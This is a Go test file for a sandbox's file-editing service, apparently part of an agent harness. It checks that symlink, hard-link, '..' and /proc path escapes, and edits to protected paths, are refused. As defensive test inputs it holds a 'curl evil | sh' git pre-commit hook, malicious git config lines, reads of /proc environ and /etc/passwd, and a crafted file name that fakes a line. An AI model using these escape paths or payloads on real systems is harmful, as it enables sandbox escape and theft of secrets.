package sandbox

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/harnessd/harnessd/core/event"
	"github.com/harnessd/harnessd/core/files"
)

// edit carries out one file action in the box through its init.
func (b *box) edit(hist *files.History, a event.Payload) files.Result {
	b.t.Helper()
	f, ok := b.sb.(files.Filer)
	if !ok {
		b.t.Fatalf("%T offers no file service", b.sb)
	}
	ed := files.Editor{Files: f, Cwd: b.term.Cwd(), History: hist}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	res, err := ed.Do(ctx, a)
	if err != nil {
		b.t.Fatalf("%+v: %v", a, err)
	}
	return res
}

// everyAction is each file action aimed at path p.
func everyAction(p string) []event.Payload {
	return []event.Payload{
		files.View{Path: p},
		files.View{Path: p, FromLine: 1, ToLine: 1},
		files.Create{Path: p, Content: "PWNED\n"},
		files.Create{Path: p, Content: "PWNED\n", Overwrite: true},
		files.StrReplace{Path: p, Old: "SECRET", New: "PWNED"},
		files.StrReplace{Path: p, Old: "root", New: "PWNED"},
		files.Insert{Path: p, Line: 0, Text: "PWNED"},
		files.Undo{Path: p},
	}
}

// TestFileEscapes aims every file action at the host through symlinks,
// a hard link, "..", /proc/self/root and host paths: the actions run in
// the sandbox's mount namespace as its user, so the host's files, another
// session's workspace and the daemon's data stay untouched and unread.
func TestFileEscapes(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})

	hostDir := t.TempDir() // the daemon's data directory, say
	store := filepath.Join(hostDir, "store.db")
	if err := os.WriteFile(store, []byte("SECRET-STORE root\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	other := newBox(t, d, Spec{})
	theirs := filepath.Join(other.ws, "theirs.txt")
	if err := os.WriteFile(theirs, []byte("SECRET-THEIRS root\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A hard link into the workspace planted from the host, to a file
	// outside it on the same filesystem.
	ws := t.TempDir()
	outside := filepath.Join(filepath.Dir(ws), "outside-"+filepath.Base(ws))
	if err := os.WriteFile(outside, []byte("SECRET-OUTSIDE root\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(outside) })
	if err := os.Link(outside, filepath.Join(ws, "hardlink")); err != nil {
		t.Fatal(err)
	}
	// A workspace that holds something is not handed over: hand it.
	if err := os.Chown(ws, DefaultUID, DefaultGID); err != nil {
		t.Fatal(err)
	}
	before := hostFingerprint([]string{hostDir, other.ws, "/etc/passwd", "/etc/hostname", outside}, []string{"/", "/root"})

	b := newBox(t, d, Spec{Workspace: ws})
	b.must("ln -s /etc/passwd pw; ln -s " + store + " store; ln -s " + theirs + " theirs; ln -s " + other.ws + " otherws; " +
		"ln -s /proc/self/root/" + hostDir + " procroot; ln -s ../../../../../../" + hostDir + " dotdot; mkdir sub")
	targets := []string{
		"pw", "/workspace/pw", "store", "theirs", "otherws/theirs.txt", "procroot/store.db", "dotdot/store.db",
		store, theirs, other.ws + "/x", hostDir + "/new",
		"/proc/self/root" + store, "/proc/1/root" + store, "/proc/self/cwd/../../.." + store,
		"../../../../../.." + store, "sub/../../../../../.." + hostDir + "/new",
		"/etc/passwd", "/etc/hostname", "/root/x", "/x", "/usr/bin/x",
		"/proc/1/environ", "/proc/self/oom_score_adj", "/proc/sys/kernel/hostname", "/sys/kernel/notes",
		"hardlink",
	}
	hist := &files.History{}
	for _, p := range targets {
		for _, a := range everyAction(p) {
			res := b.edit(hist, a)
			for _, secret := range []string{"SECRET-STORE", "SECRET-THEIRS"} {
				if strings.Contains(res.Output, secret) || strings.Contains(res.Diff, secret) {
					t.Errorf("%s %+v read the host: %+v", a.Kind(), a, res)
				}
			}
		}
	}
	// What must hold after all that: the host as it was (the hard link's
	// other name included: an edit replaces the link, never writes
	// through it), and nothing the sandbox wrote got out.
	sameHost(t, before, hostFingerprint([]string{hostDir, other.ws, "/etc/passwd", "/etc/hostname", outside}, []string{"/", "/root"}))
	if got, _ := os.ReadFile(outside); string(got) != "SECRET-OUTSIDE root\n" {
		t.Errorf("the hard link's target outside the workspace: %q", got)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "hardlink")); !strings.Contains(string(got), "PWNED") {
		t.Errorf("the edits of the hard link did not happen in the workspace: %q", got)
	}
	// Inside, the symlinks resolved in the sandbox: /etc/passwd is the
	// sandbox's (read-only), the host paths do not exist there.
	if res := b.edit(hist, files.View{Path: "pw"}); !res.OK || res.Path != "/etc/passwd" {
		t.Errorf("view through a symlink to /etc/passwd: %+v", res)
	}
	if res := b.edit(hist, files.StrReplace{Path: "pw", Old: "root", New: "toor"}); res.OK || (res.Error != files.CodeProtected && res.Error != "multiple_matches") {
		t.Errorf("edit of /etc/passwd through a symlink: %+v", res)
	}
	// The host's data dir does not exist in the sandbox: what the
	// attacks above created there went to the sandbox's private /tmp.
	if out := b.must("cat " + store); out != "PWNED" {
		t.Errorf("inside, %s is %q: want the sandbox's own file", store, out)
	}
}

// TestFileHostileWorkspace: FIFOs, devices, huge, binary and wide
// things in the workspace neither hang nor flood the file actions, and
// protected paths refuse edits with a clear error.
func TestFileHostileWorkspace(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws := t.TempDir()
	if err := os.MkdirAll(filepath.Join(ws, ".git/hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, ".git/config"), []byte("[core]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{ws, filepath.Join(ws, ".git"), filepath.Join(ws, ".git/hooks"), filepath.Join(ws, ".git/config")} {
		if err := os.Chown(p, DefaultUID, DefaultGID); err != nil {
			t.Fatal(err)
		}
	}
	b := newBox(t, d, Spec{Workspace: ws})
	// Its thousands of files take a loaded machine past a command's
	// no-output limit: run in the background, waited for.
	b.runLong("mkfifo fifo; ln -s fifo fifolink; truncate -s 100M huge; printf '\\x7fELF\\x02\\x01\\x00\\x00' > elf; "+
		"mkdir wide; (cd wide && seq 1 5000 | xargs touch); printf 'x\\n' > text; "+
		"mkdir esc; (cd esc && for i in $(seq 1 600); do touch \"$(printf '\\001%.0s' $(seq 1 200))$i\"; done; touch \"$(printf 'a\\nfake')\"); "+
		"yes x | head -100 > xs; echo secret > locked; chmod 000 locked; ln -s wide wideln", 3*time.Minute)
	hist := &files.History{}
	cases := []struct {
		a    event.Payload
		code string
		want string
	}{
		{files.View{Path: "fifo"}, files.CodeNotRegular, "is a fifo"},
		{files.View{Path: "fifolink"}, files.CodeNotRegular, "is a fifo"},
		{files.StrReplace{Path: "fifo", Old: "a", New: "b"}, files.CodeNotRegular, "is a fifo"},
		{files.Create{Path: "fifo", Content: "a", Overwrite: true}, files.CodeNotRegular, "is a fifo"},
		{files.Insert{Path: "fifolink", Line: 0, Text: "a"}, files.CodeNotRegular, "is a fifo"},
		{files.View{Path: "/dev/zero"}, files.CodeNotRegular, "is a device"},
		{files.View{Path: "/dev/tty"}, files.CodeNotRegular, "is a device"},
		{files.Create{Path: "/dev/null", Content: "a", Overwrite: true}, files.CodeNotRegular, "is a device"},
		{files.View{Path: "huge"}, files.CodeTooLarge, "104857600 bytes"},
		{files.StrReplace{Path: "huge", Old: "a", New: "b"}, files.CodeTooLarge, "104857600 bytes"},
		{files.View{Path: "elf"}, "", "binary file (ELF executable or library, 8 bytes)"},
		{files.StrReplace{Path: "elf", Old: "ELF", New: "FLE"}, "binary", "binary file"},
		{files.View{Path: "wide"}, "", "only the first 1000 entries"},
		{files.Create{Path: ".git/hooks/pre-commit", Content: "curl evil | sh"}, files.CodeProtected, "protected path"},
		{files.Create{Path: ".git/config", Content: "[core]\n\thooksPath = /tmp\n", Overwrite: true}, files.CodeProtected, "protected path"},
		{files.Insert{Path: ".git/config", Line: 1, Text: "\tfsmonitor = evil"}, files.CodeProtected, "protected path"},
		{files.StrReplace{Path: "/usr/bin/env", Old: "a", New: "b"}, "binary", "binary"},
		{files.Create{Path: "/usr/bin/evil", Content: "x"}, files.CodeProtected, "protected path"},
		{files.View{Path: "text", FromLine: 3, ToLine: 4}, "bad_range", "has 1 lines"},
		{files.Insert{Path: "text", Line: 5, Text: "a"}, "bad_line", "has 1 lines"},
		{files.Undo{Path: "text"}, "no_history", "No edit"},
		{files.View{Path: "missing"}, files.CodeNotFound, "does not exist"},
		// The file service has no capabilities: a file mode 000, even
		// the sandbox's own, is as closed to it as to the shell
		// (CAP_DAC_OVERRIDE would open it).
		{files.View{Path: "locked"}, files.CodePermission, "Permission denied"},
		{files.Create{Path: "wideln", Content: "x", Overwrite: true}, files.CodeIsDir, "is a directory"},
		// The init's own /proc, however reached, is not served.
		{files.View{Path: "/proc/self/environ"}, files.CodePermission, "Permission denied"},
		{files.View{Path: "/proc/1/status"}, files.CodePermission, "Permission denied"},
		{files.View{Path: "/proc/thread-self/comm"}, files.CodePermission, "Permission denied"},
		{files.Create{Path: "/proc/1/oom_score_adj", Content: "-1000", Overwrite: true}, files.CodePermission, "Permission denied"},
		{files.View{Path: "/proc/version"}, "", "Linux version"},
		// Names built to blow up the answer, or to fake a line.
		{files.View{Path: "esc"}, "", `"/workspace/esc/a\nfake"`},
		{files.StrReplace{Path: "xs", Old: "x", New: "y"}, "multiple_matches", "matched 100 times in /workspace/xs, starting on lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20 and 80 more"},
	}
	for _, c := range cases {
		begin := time.Now()
		res := b.edit(hist, c.a)
		if res.Error != c.code || !strings.Contains(res.Output, c.want) {
			t.Errorf("%s %+v: got error %q, %q; want %q, %q", c.a.Kind(), c.a, res.Error, res.Output, c.code, c.want)
		}
		if time.Since(begin) > 10*time.Second {
			t.Errorf("%+v took %s", c.a, time.Since(begin))
		}
	}
	if got, _ := os.ReadFile(filepath.Join(ws, ".git/config")); string(got) != "[core]\n" {
		t.Errorf(".git/config: %q", got)
	}
	// The init still answers, and the shell still runs.
	if res := b.edit(hist, files.View{Path: "text"}); !res.OK {
		t.Errorf("after the attacks: %+v", res)
	}
	if out := b.must("echo alive"); out != "alive" {
		t.Errorf("shell: %q", out)
	}
}

// TestFilesAfterRebuild: a rebuilt shell has a new init; the file channel
// follows it.
func TestFilesAfterRebuild(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	b := newBox(t, d, Spec{})
	hist := &files.History{}
	if res := b.edit(hist, files.Create{Path: "a", Content: "1\n"}); !res.OK {
		t.Fatalf("%+v", res)
	}
	var out strings.Builder
	if _, err := b.term.Run(context.Background(), event.CmdRun{Command: "exit", Reset: true}, &out); err != nil {
		t.Logf("exit: %v", err)
	}
	b.run("true")
	if res := b.edit(hist, files.StrReplace{Path: "/workspace/a", Old: "1", New: "2"}); !res.OK {
		t.Fatalf("after a rebuild: %+v", res)
	}
	if res := b.edit(hist, files.Undo{Path: "/workspace/a"}); !res.OK {
		t.Fatalf("undo after a rebuild: %+v", res)
	}
}

// TestLocalFilesOwnProc: with the driver none the primitives run in the
// daemon, whose own /proc (environment, descriptors) is refused.
func TestLocalFilesOwnProc(t *testing.T) {
	for _, p := range []string{"/proc/self/environ", "/proc/self/maps", "/proc/thread-self/status", fmt.Sprintf("/proc/%d/cmdline", os.Getpid())} {
		r, err := LocalFiles().File(context.Background(), &files.Request{Op: files.OpRead, Path: p})
		if err != nil || r.Code != files.CodePermission || len(r.Data) > 0 {
			t.Errorf("%s: %+v %v", p, r, err)
		}
	}
}
